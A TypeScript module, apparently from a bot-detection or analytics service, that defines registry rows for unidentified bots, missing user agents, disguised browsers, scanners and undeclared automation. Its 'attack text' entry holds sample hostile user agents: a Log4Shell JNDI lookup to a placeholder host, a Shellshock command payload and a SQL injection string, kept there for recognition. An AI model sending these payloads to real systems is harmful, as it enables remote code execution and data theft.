import { AUTOMATION, AUTOMATION_BOT_ID } from '@app/contracts';
import type { RegisteredBot } from './registered-bot.js';

/** A bot that no table names, recognised by a pattern. */
export const UNIDENTIFIED_BOT: RegisteredBot = {
  id: 1,
  slug: 'unidentified-bot',
  name: 'Unidentified bot',
  provider: 'Unknown',
  category: 'unidentified',
  documentation: null,
  checkedOn: '2026-11-20',
  tokens: [],
  examples: [
    'SomeUnknownBot/1.1',
    'Mozilla/5.0 (compatible; no-such-crawler/1.0; +https://example.com)',
  ],
};

/** A visitor that sent no user agent. Access logs write `-` for it. */
export const NO_USER_AGENT: RegisteredBot = {
  id: 2,
  slug: 'no-user-agent',
  name: 'No user agent',
  provider: 'Unknown',
  category: 'unidentified',
  documentation: null,
  checkedOn: '2026-11-20',
  tokens: [],
  examples: ['', '-'],
};

/** A visitor that claims to be a browser, with a user agent that no browser sends. */
export const DISGUISED_BROWSER: RegisteredBot = {
  id: 3,
  slug: 'disguised-browser',
  name: 'Disguised browser',
  provider: 'Unknown',
  category: 'disguised',
  documentation: null,
  checkedOn: '2026-11-20',
  tokens: [],
  examples: [
    'Mozilla/5.0',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36',
    'Mozilla/5.0 (X11; Ubuntu; Linux x86_64) AppleWebKit/537.36 (KHTML',
  ],
};

/**
 * A visitor with the user agent of a browser that asks for what no site links. The request tells,
 * and not the user agent, so there are no examples of user agents.
 */
export const VULNERABILITY_SCANNER: RegisteredBot = {
  id: 4,
  slug: 'vulnerability-scanner',
  name: 'Vulnerability scanner',
  provider: 'Unknown',
  category: 'security_scanner',
  documentation: null,
  checkedOn: '2026-11-23',
  tokens: [],
  examples: [],
};

/** A user agent that is an attack on whatever reads it: code in place of a name. */
export const ATTACK_TEXT: RegisteredBot = {
  id: 5,
  slug: 'attack-text',
  name: 'Attack text',
  provider: 'Unknown',
  category: 'security_scanner',
  documentation: null,
  checkedOn: '2026-11-23',
  tokens: [],
  examples: [
    '${jndi:ldap://192.0.2.1:1389/a}',
    '() { :; }; /bin/bash -c "id"',
    "Mozilla/5.0' AND 1=1 UNION ALL SELECT NULL-- -",
  ],
};

/**
 * A visitor with the user agent of a browser that is no person by all that it did within a day. No
 * request tells it alone, so there are no examples.
 */
export const UNDECLARED_AUTOMATION: RegisteredBot = {
  id: AUTOMATION_BOT_ID,
  slug: 'undeclared-automation',
  ...AUTOMATION,
  provider: 'Unknown',
  documentation: null,
  checkedOn: '2026-11-28',
  tokens: [],
  examples: [],
};

/**
 * Visitors that no table can name. A rule recognises them instead of a word. Each is a row in the
 * registry, so that bots and people add up to all visits. Ids 1 to 9 are reserved for such rows.
 */
export const SPECIAL_BOTS: readonly RegisteredBot[] = [
  UNIDENTIFIED_BOT,
  NO_USER_AGENT,
  DISGUISED_BROWSER,
  VULNERABILITY_SCANNER,
  ATTACK_TEXT,
  UNDECLARED_AUTOMATION,
];
